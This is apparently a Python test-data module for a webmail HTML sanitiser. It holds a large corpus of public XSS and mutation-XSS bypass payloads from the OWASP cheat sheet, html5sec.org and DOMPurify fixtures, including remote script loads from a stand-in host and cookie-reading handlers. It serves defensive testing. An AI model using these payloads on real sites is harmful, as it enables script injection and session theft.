# ruff: noqa: E501  (payloads are kept on one line each, as published)
"""A corpus of public HTML sanitiser bypasses, as test data for the webmail sanitiser.

Written for postel from these public sources (the payload classes and, where
quoted, the payloads they publish; the grouping, names and selection are ours):

- OWASP "XSS Filter Evasion Cheat Sheet" (cheatsheetseries.owasp.org), its
  classes: script/img/event vectors, case and quoting tricks, entity and
  whitespace obfuscation of ``javascript:``, malformed tags, legacy vectors
  (dynsrc, lowsrc, BGSOUND, VML, behavior, expression, META refresh, BASE),
  CSS vectors and remote style sheets.
- The test fixtures of DOMPurify (github.com/cure53/DOMPurify,
  test/fixtures/expect.mjs): the html5sec.org cases numbered there, the
  "mXSS" cases (Chrome 77 SVG/MathML, attribute-, removal-, nesting-based,
  fake-element namespace confusion), noscript/textarea/comment terminations,
  DOM clobbering, LS/PS and Unicode-whitespace ``javascript:`` URIs.
- Mutation-XSS research: Heiderich et al., "mXSS Attacks" (CCS 2013), and the
  2019/2020 DOMPurify bypasses by Michał Bentkowski (``<math><mtext><table>
  <mglyph><style>``) and Gareth Heyes / PortSwigger research
  (``<noscript>``, ``<svg><style>``, comment tricks).

Every entry is (name, payload). The tests assert that after sanitising no
script element, event handler, javascript:/vbscript:/data: URL (other than
inline raster images), foreign (SVG/MathML) element or remote load survives,
parsed as a browser parses it.
"""

from __future__ import annotations

# OWASP XSS Filter Evasion Cheat Sheet (classes, in the sheet's order).
OWASP = [
    ("basic script", "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>"),
    (
        "polyglot",
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    ),
    ("img javascript", "<IMG SRC=\"javascript:alert('XSS');\">"),
    ("img no quotes", "<IMG SRC=javascript:alert('XSS')>"),
    ("img case", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
    ("img entities", "<IMG SRC=javascript:alert(&quot;XSS&quot;)>"),
    ("img grave accents", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"),
    ("malformed a", '<a onmouseover="alert(document.cookie)">xxs link</a>'),
    ("malformed a unquoted", "<a onmouseover=alert(document.cookie)>xxs link</a>"),
    ("malformed img", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'),
    ("fromCharCode", "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>"),
    ("default src onmouseover", "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
    ("empty src", "<IMG SRC= onmouseover=\"alert('xxs')\">"),
    ("no src", "<IMG onmouseover=\"alert('xxs')\">"),
    ("onerror", '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'),
    (
        "onerror encoded",
        '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    ),
    (
        "decimal entities",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    ),
    (
        "decimal no semicolons",
        "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    ),
    (
        "hex no semicolons",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    ),
    (
        "a hex no semicolons",
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">x</a>',
    ),
    ("embedded tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">"),
    ("embedded encoded tab", "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">"),
    ("embedded newline", "<a href=\"jav&#x0A;ascript:alert('XSS');\">x</a>"),
    ("embedded carriage return", "<a href=\"jav&#x0D;ascript:alert('XSS');\">x</a>"),
    ("null breaks", '<a href=java\x00script:alert("XSS")>x</a>'),
    ("spaces and meta chars", "<a href=\" &#14;  javascript:alert('XSS');\">x</a>"),
    ("non-alpha-non-digit", '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>'),
    ("non-alpha body", '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'),
    ("non-alpha script", '<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>'),
    ("extraneous open brackets", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'),
    ("no closing script tag", "<SCRIPT SRC=https://xss.example/xss.js?< B >"),
    ("protocol resolution", "<SCRIPT SRC=//xss.example/.j>"),
    ("half open img", "<IMG SRC=\"`<javascript:alert>`('XSS')\""),
    ("double open angle", "<iframe src=https://xss.example/scriptlet.html <"),
    ("end title", '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'),
    ("input image", '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">'),
    ("body image", "<BODY BACKGROUND=\"javascript:alert('XSS')\">"),
    ("img dynsrc", "<IMG DYNSRC=\"javascript:alert('XSS')\">"),
    ("img lowsrc", "<IMG LOWSRC=\"javascript:alert('XSS')\">"),
    (
        "list-style-image",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    ),
    ("vbscript img", "<IMG SRC='vbscript:msgbox(\"XSS\")'>"),
    ("livescript", '<IMG SRC="livescript:[code]">'),
    ("svg object", "<svg/onload=alert('XSS')>"),
    ("es6 template", "<svg onload=alert`1`>"),
    ("body onload", "<BODY ONLOAD=alert('XSS')>"),
    ("bgsound", "<BGSOUND SRC=\"javascript:alert('XSS');\">"),
    ("js includes", "<BR SIZE=\"&{alert('XSS')}\">"),
    ("remote style sheet link", '<LINK REL="stylesheet" HREF="https://xss.example/xss.css">'),
    ("remote style sheet import", "<STYLE>@import'https://xss.example/xss.css';</STYLE>"),
    (
        "remote style sheet meta",
        '<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">',
    ),
    (
        "remote style sheet moz-binding",
        '<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>',
    ),
    ("style breaking js", "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>"),
    ("img style expression", "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">"),
    ("style tag broken up", "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>"),
    (
        "style class background",
        "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    ),
    (
        "style background",
        '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
    ),
    ("anonymous html style", "<XSS STYLE=\"xss:expression(alert('XSS'))\">"),
    ("local htc", '<XSS STYLE="behavior: url(xss.htc);">'),
    ("meta refresh", '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">'),
    (
        "meta refresh data",
        '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    ),
    (
        "meta refresh extra url",
        '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">',
    ),
    ("iframe", "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>"),
    ("iframe event", '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'),
    ("frame", "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>"),
    ("table background", "<TABLE BACKGROUND=\"javascript:alert('XSS')\">"),
    ("td background", "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">"),
    ("div background image", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">"),
    (
        "div background unicode",
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    ),
    (
        "div background extra chars",
        "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
    ),
    ("div expression", "<DIV STYLE=\"width: expression(alert('XSS'));\">"),
    ("downlevel-hidden", "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->"),
    ("base tag", "<BASE HREF=\"javascript:alert('XSS');//\">"),
    (
        "object tag",
        '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    ),
    (
        "embed svg",
        '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    ),
    (
        "xml data island",
        '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
    ),
    (
        "html+time",
        '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>"></BODY></HTML>',
    ),
    ("us-ascii encoding", "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be"),
    ("script in a", '<A HREF="http://66.000146.0x7.147/">XSS</A>'),
    (
        "content replace",
        "<A HREF=\"javascript:document.location='https://www.example.com/'\">XSS</A>",
    ),
    ("form action", '<FORM ACTION="javascript:alert(1)"><INPUT TYPE="submit"></FORM>'),
    ("button formaction", '<form><button formaction="javascript:alert(1)">X</button></form>'),
    ("svg animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("details ontoggle", "<details open ontoggle=alert(1)>"),
    ("marquee", "<marquee onstart=alert(1)>x</marquee>"),
    ("audio onerror", "<audio src=x onerror=alert(1)>"),
    ("video source onerror", "<video><source onerror=alert(1)></video>"),
    ("isindex", "<isindex type=image src=1 onerror=alert(1)>"),
    ("keygen autofocus", "<keygen autofocus onfocus=alert(1)>"),
]

# html5sec.org cases, as numbered in DOMPurify's fixtures.
HTML5SEC = [
    (
        "form button formaction",
        '<div id="1"><form id="foobar"></form><button form="foobar" formaction="javascript:alert(1)">X</button></div>',
    ),
    (
        "imap4 utf7 meta",
        '<div id="2"><meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi</div>',
    ),
    ("input autofocus", '<div id="7"><input onfocus=alert(7) autofocus></div>'),
    (
        "o-link style",
        '<div id="9"><a style="-o-link:\'javascript:alert(9)\';-o-link-source:current">X</a></div>',
    ),
    ("video poster", '<div id="10"><video poster=javascript:alert(10)//></video></div>'),
    (
        "svg g onload",
        '<div id="11"><svg xmlns="http://www.w3.org/2000/svg"><g onload="javascript:alert(11)"></g></svg></div>',
    ),
    ("body onscroll", '<div id="12"><body onscroll=alert(12)><br><br><br><input autofocus></div>'),
    (
        "behavior time2",
        '<div id="16">X<x style=`behavior:url(#default#time2)` onbegin=`alert(16)` ></div>',
    ),
    (
        "xml-stylesheet pi",
        '<div id="17"><?xml-stylesheet href="javascript:alert(17)"?><root/></div>',
    ),
    (
        "xhtml script",
        '<div id="18"><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></div>',
    ),
    (
        "set innerhtml",
        '<div id="24">1<set/xmlns=`urn:schemas-microsoft-com:time` style=`behAvior:url(#default#time2)` attributename=`innerhtml` to=`<img/src="x"onerror=alert(24)>`></div>',
    ),
    (
        "style attribute selector",
        "<div id=\"27\"><style>p[foo=bar{}*{-o-link:'javascript:alert(27)'}{}*{-o-link-source:current}*{background:red}]{background:green};</style></div>",
    ),
    (
        "link data stylesheet",
        '<div id="29"><link rel=stylesheet href=data:,*%7bx:expression(alert(29))%7d</div>',
    ),
    (
        "import data",
        '<div id="30"><style>@import "data:,*%7bx:expression(alert(30))%7D";</style></div>',
    ),
    ("frameset onload", '<div id="31"><frameset onload=alert(31)></div>'),
    (
        "position overlay click",
        '<div id="33"><a style="pointer-events:none;position:absolute;"><a style="position:absolute;" onclick="alert(33);">XXX</a></a><a href="javascript:alert(2)">XXX</a></div>',
    ),
    (
        "vmlframe",
        '<div id="34">1<vmlframe xmlns=urn:schemas-microsoft-com:vml style=behavior:url(#default#vml);position:absolute;width:100%;height:100% src=test.vml#xss></vmlframe></div>',
    ),
    (
        "anchorclick folder",
        '<div id="36"><a style="behavior:url(#default#AnchorClick);" folder="javascript:alert(36)">XXX</a></div>',
    ),
    (
        "comment in attribute",
        '<div id="37"><!--<img src="--><img src=x onerror=alert(37)//"></div>',
    ),
    (
        "comment element",
        '<div id="38"><comment><img src="</comment><img src=x onerror=alert(38)//"></div>',
    ),
    ("bogus comment", '<![><img src="]><img src=x onerror=alert(39)//">'),
    ("svg cdata", '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(2)//"></svg>'),
    (
        "style in attribute",
        '<div id="40"><style><img src="</style><img src=x onerror=alert(40)//"></div>',
    ),
    ("li list-style url", '<div id="41"><li style=list-style:url() onerror=alert(41)></li></div>'),
    (
        "content url",
        "<div style=content:url(data:image/svg+xml,%3Csvg/%3E);visibility:hidden onload=alert(41)></div>",
    ),
    (
        "base javascript",
        '<div id="42"><head><base href="javascript://"/></head><body><a href="/. /,alert(42)//#">XXX</a></body></div>',
    ),
    (
        "font-face svg",
        '<style type="text/css">@font-face {font-family: y; src: url("font.svg#x") format("svg");} body {font: 100px "y";}</style>',
    ),
    (
        "import in selector",
        '<div id="44"><style>*[{}@import\'test.css?]{color: green;}</style>X</div>',
    ),
    (
        "font-family quote",
        '<div id="45"><div style="font-family:\'foo[a];color:red;\';">XXX</div></div>',
    ),
    ("font-family brace", '<div id="46"><div style="font-family:foo}color=red;">XXX</div></div>'),
    (
        "svg script",
        '<div id="47"><svg xmlns="http://www.w3.org/2000/svg"><script>alert(47)</script></svg></div>',
    ),
    (
        "script for event",
        '<div id="48"><SCRIPT FOR=document EVENT=onreadystatechange>alert(48)</SCRIPT></div>',
    ),
    (
        "object param",
        '<div id="49"><OBJECT CLASSID="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><PARAM NAME="DataURL" VALUE="javascript:alert(49)"></OBJECT></div>',
    ),
    (
        "object data html",
        '<div id="50"><object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object></div>',
    ),
    (
        "embed data html",
        '<div id="51"><embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></embed></div>',
    ),
    ("datasrc label", '<label dataformatas="html" datasrc="#xss" datafld="payload"></label>'),
    ("b script split", '<div id="57"><b <script>alert(57)//</script>0</script></b></div>'),
    ("script lt b", '<div id="58"><b><script<b></b><alert(58)</script </b></b></div>'),
    (
        "ie attribute quotes",
        "<div id=\"62\"><x '=\"foo\"><x foo='><img src=x onerror=alert(62)//'><! '=\"foo\"><x foo='><img src=x onerror=alert(2)//'><? '=\"foo\"><x foo='><img src=x onerror=alert(3)//'></div>",
    ),
    (
        "svg onload xmlns",
        '<div id="65"><svg onload="javascript:alert(65)" xmlns="http://www.w3.org/2000/svg"></svg></div>',
    ),
    (
        "doctype attlist",
        '<div id="67"><!DOCTYPE x [<!ATTLIST img xmlns CDATA "http://www.w3.org/1999/xhtml" src CDATA "xx" onerror CDATA "alert(67)" onload CDATA "alert(2)">]><img /></div>',
    ),
    (
        "xlink doc",
        '<div id="68"><doc xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:html="http://www.w3.org/1999/xhtml"><html:style /><x xlink:href="javascript:alert(68)" xlink:type="simple">XXX</x></doc></div>',
    ),
    (
        "filter glow",
        '<div id="70"><div style=width:1px;filter:glow onfilterchange=alert(70)>x</div></div>',
    ),
    ("expression control chars", '<div id="71"><// style=x:expression\x028alert(71)\x029></div>'),
    (
        "a event-source",
        '<div id="74"><a href="javascript:alert(74)"><event-source src="data:application/x-dom-event-stream,Event:click%0Adata:XXX%0A%0A" /></a></div>',
    ),
    ("script lt brace", '<div id="75"><script<{alert(75)}/></script </></div>'),
    (
        "fullwidth expression",
        '<div id="80"><style>*{x:\uff45\uff58\uff50\uff52\uff45\uff53\uff53\uff49\uff4f\uff4e(alert(80))}</style></div>',
    ),
    (
        "xlink actuate",
        '<div id="81"><x xmlns:xlink="http://www.w3.org/1999/xlink" xlink:actuate="onLoad" xlink:href="javascript:alert(81)" xlink:type="simple"/></div>',
    ),
    ("body oninput", '<div id="86"><body oninput=alert(86)><input autofocus></div>'),
    (
        "svg a xlink",
        '<div id="87"><svg xmlns="http://www.w3.org/2000/svg"><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(87)"><rect width="1000" height="1000" fill="white"/></a></svg></div>',
    ),
    (
        "svg set attributename",
        '<div id="89"><svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onmouseover" to="alert(89)"/><animate attributeName="onunload" to="alert(89)"/></svg></div>',
    ),
    (
        "style url svg",
        '<div id="90"><div style=content:url(test2.svg)></div><div style="background:url(test5.svg)">PRESS ENTER</div></div>',
    ),
    (
        "pi and bang tags",
        '<div id="91">[A]<? foo="><script>alert(91)</script>"><! foo="><script>alert(91)</script>"></ foo="><script>alert(91)</script>">[B]<? foo="><x foo=\'?><script>alert(91)</script>\'>">[C]<! foo="[[[x]]"><x foo="]foo><script>alert(91)</script>">[D]<% foo><x foo="%><script>alert(91)</script>"></div>',
    ),
    (
        "url with semicolon",
        '<div id="92"><div style="background:url(http://foo.f/f oo/;color:red/*/foo.jpg);">X</div></div>',
    ),
    (
        "list-style control char",
        '<div id="93"><div style="list-style:url(http://foo.f)\x10url(javascript:alert(93));">X</div></div>',
    ),
    (
        "svg handler",
        '<div id="94"><svg xmlns="http://www.w3.org/2000/svg"><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(94)</handler></svg></div>',
    ),
    (
        "feimage set",
        '<div id="95"><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><feImage><set attributeName="xlink:href" to="data:image/svg+xml;charset=utf-8;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ%2BYWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4NCg%3D%3D"/></feImage></svg></div>',
    ),
    (
        "mhtml iframe",
        '<div id="96"><iframe src=mhtml:http://html5sec.org/test.html!xss.html></iframe></div>',
    ),
    (
        "font-family control chars",
        '<div id="98"><div style="font-family:\'sans\x17\x02F\x02A\x12\x02A\x02F\x03B color\x03Ared\x03B\'">X</div></div>',
    ),
    (
        "ie comment css",
        '<div id="99">XXX<style>*{color:gre/**/en !/**/important} <!--\n--><!--*{color:red}   *{background:url(xx //**/\\red/*)}</style></div>',
    ),
    ("img src backticks", '<div id="102"><img src="x` `<script>alert(102)</script>"` `></div>'),
    (
        "svg xml-events handler",
        '<div id="104"><svg xmlns="http://www.w3.org/2000/svg" id="foo"><x xmlns="http://www.w3.org/2001/xml-events" event="load" observer="foo" handler="data:image/svg+xml,%3Csvg%20xmlns%3D%22http%3A%2F%2Fwww.w3.org%2F2000%2Fsvg%22%3E%0A%3Chandler%20xml%3Aid%3D%22bar%22%20type%3D%22application%2Fecmascript%22%3E alert(104) %3C%2Fhandler%3E%0A%3C%2Fsvg%3E%0A#bar"/></svg></div>',
    ),
    (
        "iframe gzip svg",
        '<div id="105"><iframe src="data:image/svg-xml,%1F%8B%08%00%00%00%00%00%02%03%B3)N.%CA%2C(Q%A8%C8%CD%C9%2B%B6U%CA())%B0%D2%D7%2F%2F%2F%D7%2B7%D6%CB%2FJ%D77%B4%B4%B4%D4%AF%C8(%C9%CDQ%B2K%CCI-*%D10%D4%B4%D1%87%E8%B2%03"></iframe></div>',
    ),
    ("img bare attributes", '<div id="106"><img src onerror /" \'"= alt=alert(106)//"></div>'),
    (
        "title onpropertychange",
        '<div id="107"><title onpropertychange=alert(107)></title><title title=></title></div>',
    ),
    (
        "backtick attribute",
        '<div id="108"><a href=http://foo.bar/#x=`y></a><img alt="`><img src=xx onerror=alert(108)></a>"><!a foo=x=`y><img alt="`><img src=xx onerror=alert(2)//"><?a foo=x=`y><img alt="`><img src=xx onerror=alert(3)//"></div>',
    ),
    (
        "svg style urls",
        '<div id="109"><svg xmlns="http://www.w3.org/2000/svg"><a id="x"><rect fill="white" width="1000" height="1000"/></a><rect fill="white" style="clip-path:url(test3.svg#a);fill:url(#b);filter:url(#c);marker:url(#d);mask:url(#e);stroke:url(#f);"/></svg></div>',
    ),
    (
        "url brackets",
        '<div id="111"><div style="background:url(/f#[a]oo/;color:red/*/foo.jpg);">X</div></div>',
    ),
    (
        "url brace",
        '<div id="112"><div style="font-family:foo{bar;background:url(http://foo.f/oo};color:red/*/foo.jpg);">X</div></div><div id="113"><div id="x">XXX</div><style>#x{font-family:foo[bar;color:green;}#y];color:red;{}</style></div>',
    ),
    (
        "conditional comments",
        '<div id="114"><x style="background:url(\'x[a];color:red;/*\')">XXX</x></div><div id="115"><!--[if]><script>alert(115)</script -->\n<!--[if<img src=x onerror=alert(2)//]> --></div>',
    ),
    (
        "time2 set innerhtml",
        '<div id="116"><div id="x">x</div><xml:namespace prefix="t"><import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" targetElement="x" to="<img\x0bsrc=x\x0bonerror\x0b=alert(116)>"></div>',
    ),
    (
        "iframe sandboxed",
        '<div id="122"><iframe sandbox="allow-same-origin allow-forms allow-scripts" src="http://example.org/"></iframe></div>',
    ),
    (
        "xslt svg",
        '<div id="125"><?xml version="1.0"?><?xml-stylesheet type="text/xml" href="#stylesheet"?><!DOCTYPE doc [<!ATTLIST xsl:stylesheet  id    ID    #REQUIRED>]><svg xmlns="http://www.w3.org/2000/svg"><xsl:stylesheet id="stylesheet" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(125)"></iframe></xsl:template></xsl:stylesheet><circle fill="red" r="40"></circle></svg></div>',
    ),
    ("svg style img", '<div id="128"><svg><style><img/src=x onerror=alert(128)// </b></div>'),
    (
        "svg image filter data",
        '<div id="129"><svg><image style=\'filter:url("data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><script>parent.alert(129)</script></svg>")\'></svg></div>',
    ),
    (
        "math href",
        '<div id="130"><math href="javascript:alert(130)">CLICKME</math><math><maction actiontype="statusline#http://google.com" xlink:href="javascript:alert(2)">CLICKME</maction></math></div>',
    ),
    (
        "svg set accesskey",
        '<div id="132"><form><input name="secret" type="password"></form><svg height="50px"><image xmlns:xlink="http://www.w3.org/1999/xlink"><set attributeName="xlink:href" begin="accessKey(a)" to="//example.com/?a" /></image></svg></div>',
    ),
    ("comment bang", '<div id="133"><!-- `<img/src=xxx onerror=alert(133)//--!></div>'),
    (
        "xmp",
        "<div id=\"134\"><xmp>\n<%\n</xmp>\n<img alt='%></xmp><img src=xx onerror=alert(134)//'>\n<script>\nx='<%'\n</script> %>/\nalert(2)\n</script>\nXXX\n<style>\n*['<!--']{}\n</style>\n-->{}\n*{color:red}</style></div>",
    ),
    (
        "svg animate from",
        '<div id="137"><svg><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="?"><circle r="400"></circle><animate attributeName="xlink:href" begin="0" from="javascript:alert(137)" to="&" /></a></div>',
    ),
]

# Mutation XSS and namespace confusion (DOMPurify fixtures and the research above).
MXSS = [
    ("listing entity", '<listing>&lt;img onerror="alert(1);//" src=x&gt;<t t></listing>'),
    ("id slash attribute", "<img src=x id/=' onerror=alert(1)//'>"),
    (
        "textarea comment",
        "<textarea>@shafigullin</textarea><!--</textarea><img src=x onerror=alert(1)>-->",
    ),
    ("noscript comment", "<b><noscript><!-- </noscript><img src=x onerror=alert(1) --></noscript>"),
    (
        "noscript attribute",
        '<b><noscript><a alt="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ),
    ("noscript p title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    (
        "template nesting",
        "<body><template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>",
    ),
    (
        "option style",
        "\x01<option><style></option></select><b><img src=x onerror=alert(1)></style></option>",
    ),
    ("option iframe", "<option><iframe></select><b><script>alert(1)</script>"),
    ("style jquery", "<b><style><style/><img src=x onerror=alert(1)>"),
    ("style self-closing", "<b><style><style////><img src=x onerror=alert(1)></style>"),
    (
        "svg textarea chrome77",
        "<svg></p><textarea><title><style></textarea><img src=x onerror=alert(1)></style></title></svg>",
    ),
    (
        "svg title chrome77",
        '<svg></p><title><a id="</title><img src=x onerror=alert()>"></textarea></svg>',
    ),
    (
        "math textarea chrome77",
        "<math></p><textarea><mi><style></textarea><img src=x onerror=alert(1)></mi></math>",
    ),
    (
        "svg template chrome77",
        "<svg></p><title><template><style></title><img src=x onerror=alert(1)>",
    ),
    (
        "math template chrome77",
        "<math></br><textarea><mtext><template><style></textarea><img src=x onerror=alert(1)>",
    ),
    ("svg math title", "<svg></p><math><title><style><img src=x onerror=alert(1)></style></title>"),
    ("attribute mxss 1", '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">'),
    (
        "attribute mxss 2",
        '<svg><foreignobject><p><style><p title="</style><iframe onload&#x3d;alert(1)<!--"></style>',
    ),
    (
        "attribute mxss 3",
        '<math><annotation-xml encoding="text/html"><p><style><p title="</style><iframe onload&#x3d;alert(1)<!--"></style>',
    ),
    ("removal xmp", "<xmp><svg><b><style><b title='</style><img>'>"),
    ("removal noembed", "<noembed><svg><b><style><b title='</style><img>'>"),
    (
        "nesting form mglyph",
        "<form><math><mtext></form><form><mglyph><style><img src=x onerror=alert(1)>",
    ),
    (
        "nesting table mglyph",
        "<math><mtext><table><mglyph><style><math href=javascript:alert(1)>CLICKME</math>",
    ),
    (
        "nesting table comment",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    ),
    (
        "nesting form svg",
        '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    ),
    (
        "nesting table svg",
        '<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    ),
    (
        "math h1 h6",
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror='alert(1)'>\"></style></h1>",
    ),
    (
        "fake element noscript",
        'a<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=alert(1)>">',
    ),
    (
        "fake element option",
        "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style><img src='#' onerror='alert(1)'>\">",
    ),
    ("select template", "<select><template><img src=x onerror=alert(1)></template></select>"),
    ("svg style comment", "<svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>"),
    ("math style comment", "<math><style><img src=x onerror=alert(1)></style></math>"),
    (
        "noscript style",
        "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    ),
    ("iframe srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("comment dash bang", "<!--><img src=x onerror=alert(1)>-->"),
    ("comment short", "<!---><img src=x onerror=alert(1)>-->"),
    ("comment bang close", "<!-- --!><img src=x onerror=alert(1)>-->"),
    ("cdata html", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
    ("processing instruction", "<?xml ><img src=x onerror=alert(1)>?>"),
    ("textarea title", "<textarea><title></textarea><img src=x onerror=alert(1)></title>"),
    ("title img", "<title><img src=x onerror=alert(1)></title>"),
    ("plaintext", "<plaintext><img src=x onerror=alert(1)>"),
    ("style outside", "<style>x</style><img src=x onerror=alert(1)>"),
    ("backslash tag", "<img\\src=x\\onerror=alert(1)>"),
    ("slash attribute separators", "<img/src=x/onerror=alert(1)>"),
    ("newline attribute", "<img\nsrc=x\nonerror=alert(1)>"),
    ("form feed attribute", "<img\x0csrc=x\x0conerror=alert(1)>"),
    ("uppercase handler", "<IMG SRC=x ONERROR=alert(1)>"),
    ("entity in attribute name", "<img src=x on&#101;rror=alert(1)>"),
    (
        "dom clobbering",
        "<img src=x name=createElement><img src=y id=createElement><form><input name=attributes></form>",
    ),
    ("is attribute", '<b is="foo">bar</b>'),
    (
        "base href relative",
